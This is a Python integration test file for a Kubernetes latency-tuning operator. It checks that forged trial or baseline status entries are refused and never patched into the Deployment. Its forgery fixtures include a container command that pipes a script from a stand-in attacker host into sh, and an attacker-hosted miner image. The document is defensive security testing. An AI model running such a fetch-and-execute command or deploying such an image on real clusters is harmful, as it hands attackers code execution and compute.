"""The status is the operator's memory, and anyone with `latencytargets/status` rights can write
it: a forged trial or baseline never reaches the Deployment, in any mode, on delete neither.
Finding 3 of issue 13 — kopf running against the API emulator."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.integration.operator.harness import (
    LT_API,
    NAMESPACE,
    SEQS_ONLY,
    World,
    by_seqs,
    cluster,
    condition,
    eventually,
    latency_target,
    operator_running,
    posted,
    queueing,
)
from tests.integration.sandbox.trust.support import (
    ARGS,
    IMAGE,
    MODEL,
    forge_status,
    forged_baseline,
    forged_trial,
    several_more_rounds,
)

from latency_tuner.controller.deployment import DEFAULT_GPU_RESOURCE, container_config
from latency_tuner.core.cluster import ContainerConfig
from latency_tuner.core.rollout import Reason

RUNNING = ContainerConfig(None, tuple(ARGS), IMAGE, 1)
FORGERIES = {
    "a shell that downloads and runs a script": ContainerConfig(
        ("/bin/sh", "-c"), ("curl -s http://attacker.example/x | sh",), IMAGE, 1
    ),
    "the attacker's image": ContainerConfig(None, tuple(ARGS), "attacker.example/miner:latest", 1),
    "eight GPUs": ContainerConfig(None, tuple(ARGS), IMAGE, 8),
    "a flag no knob sets": ContainerConfig(
        None, (MODEL, "--max-num-seqs", "16", "--trust-remote-code"), IMAGE, 1
    ),
}


async def running_container(world: World) -> ContainerConfig:
    dep = await world.deployment()
    (c,) = dep["spec"]["template"]["spec"]["containers"]
    return container_config(c, DEFAULT_GPU_RESOURCE)


async def degraded_by_refusal(world: World) -> dict[str, Any] | None:
    found = condition(await world.status(), "Degraded")
    return found if found and found["reason"] == "ChangeRefused" else None


@pytest.mark.parametrize("forgery", list(FORGERIES))
async def test_a_forged_trial_container_is_refused_with_degraded_and_never_patched(
    tmp_path: Path, forgery: str
) -> None:
    async with cluster(tmp_path, queueing(by_seqs), ARGS) as world:
        await world.api.create(latency_target(knobs=SEQS_ONLY))
        assert await running_container(world) == RUNNING
        await forge_status(world, "llama-latency", forged_trial(RUNNING, FORGERIES[forgery]))
        async with operator_running(world, tmp_path):
            degraded = await eventually(lambda: degraded_by_refusal(world))
            await several_more_rounds()
            after = await running_container(world)
            patches = world.deployment_patches()
            refused = await posted(world, Reason.CHANGE_REFUSED)
    assert degraded["status"] == "True"
    assert "refused and not applied" in str(degraded["message"])
    assert refused[0]["type"] == "Warning"
    assert after == RUNNING
    assert patches == []


async def test_a_forged_trial_on_a_target_in_mode_off_changes_nothing(tmp_path: Path) -> None:
    shell = FORGERIES["a shell that downloads and runs a script"]
    async with cluster(tmp_path, queueing(by_seqs), ARGS) as world:
        await world.api.create(latency_target(knobs=SEQS_ONLY, mode="Off"))
        await forge_status(world, "llama-latency", forged_trial(RUNNING, shell))
        async with operator_running(world, tmp_path):
            await eventually(lambda: _observed_by_operator(world))
            await several_more_rounds()
            after = await running_container(world)
            patches = world.deployment_patches()
    assert after == RUNNING
    assert patches == []


async def test_a_forged_baseline_is_not_restored_on_delete_even_in_mode_off(
    tmp_path: Path,
) -> None:
    shell = FORGERIES["a shell that downloads and runs a script"]
    async with cluster(tmp_path, queueing(by_seqs), ARGS) as world:
        await world.api.create(latency_target(knobs=SEQS_ONLY, mode="Off", onDelete="Restore"))
        await forge_status(world, "llama-latency", forged_baseline(shell))
        async with operator_running(world, tmp_path):
            await eventually(lambda: _observed_with_baseline(world))
            await world.api.delete(LT_API, "LatencyTarget", "llama-latency", namespace=NAMESPACE)
            await eventually(lambda: _gone(world), within=20)
            refused = await posted(world, Reason.CHANGE_REFUSED)
            after = await running_container(world)
            patches = world.deployment_patches()
    assert "restore refused" in refused[0]["message"]
    assert after == RUNNING
    assert patches == []


async def test_a_true_baseline_is_still_restored_on_delete(tmp_path: Path) -> None:
    """The control for the test above: the restore path works, so its refusal means something."""
    changed = [MODEL, "--max-num-seqs", "64"]
    async with cluster(tmp_path, queueing(by_seqs), changed) as world:
        await world.api.create(latency_target(knobs=SEQS_ONLY, mode="Off", onDelete="Restore"))
        await forge_status(world, "llama-latency", forged_baseline(RUNNING))
        async with operator_running(world, tmp_path):
            await eventually(lambda: _observed_with_baseline(world))
            await world.api.delete(LT_API, "LatencyTarget", "llama-latency", namespace=NAMESPACE)
            await eventually(lambda: _gone(world), within=20)
            after = await running_container(world)
    assert after == RUNNING


async def _observed_by_operator(world: World) -> bool:
    status = await world.status()
    return condition(status, "MetricsAvailable") is not None


async def _observed_with_baseline(world: World) -> bool:
    """Observed by the operator, with the forged baseline still in the status to restore."""
    status = await world.status()
    return condition(status, "MetricsAvailable") is not None and "baseline" in status


async def _gone(world: World) -> bool:
    api = world.api
    return await api.get(LT_API, "LatencyTarget", "llama-latency", namespace=NAMESPACE) is None
